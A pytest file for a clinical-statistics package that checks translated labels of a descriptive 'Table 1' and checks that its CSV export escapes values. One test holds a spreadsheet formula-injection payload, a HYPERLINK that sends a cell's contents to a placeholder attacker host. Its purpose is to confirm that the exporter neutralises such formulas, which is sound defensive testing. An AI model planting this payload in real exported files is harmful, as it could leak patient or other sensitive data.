"""Table 1 in the language of its page."""

import csv

from securefair.collaboration.described import Described, DescribedRow
from securefair.report.described import described_csv, described_lines
from securefair.words import words_of


def described(strata_of, *rows):
    return Described(
        patients=90,
        by_hospital={"north": 30},
        hospitals=3,
        rows=[
            DescribedRow(
                variable=variable,
                figure="level",
                level=level,
                together=45,
                by_hospital={"north": 15},
            )
            for variable, level in rows
        ],
        filled=[],
        strata_of=strata_of,
        numbers=10,
        bits=64,
    )


def labels(found, language):
    return [line[0] for line in described_lines(found, ["north"], words_of(language))[2:]]


def test_parts_of_an_outcome_have_names_of_the_language_and_codes_stay():
    time = described("Verstorben", ("Verstorben", "not seen"), ("Verstorben", "event"))
    assert labels(time, "de") == ["Verstorben: nicht gesehen, n (%)", "Verstorben: Ereignis, n (%)"]
    assert labels(time, "fr") == [
        "Verstorben\u00a0: non vu, n (%)",
        "Verstorben\u00a0: évènement, n (%)",
    ]
    falls = described("falls", ("falls", "none"), ("falls", "one or more"), ("drug", "none"))
    assert labels(falls, "de") == [
        "falls: 0, n (%)",
        "falls: 1 oder mehr, n (%)",
        "drug: none, n (%)",
    ]
    classes = described("", ("finding", "none"))
    assert labels(classes, "de") == ["finding: none, n (%)"]
    assert "falls,level,one or more,45,15" in described_csv(falls, "north")


def test_a_level_that_begins_like_a_formula_is_a_text():
    """Rules may come from another hospital, and a spreadsheet runs what begins with =."""
    evil = '=HYPERLINK("http://evil.example/?d="&D2,"other")'
    found = described("", ("@ward", evil))
    rows = list(csv.reader(described_csv(found, "north").splitlines()))
    assert rows[2][:3] == ["'@ward", "level", f"'{evil}"]
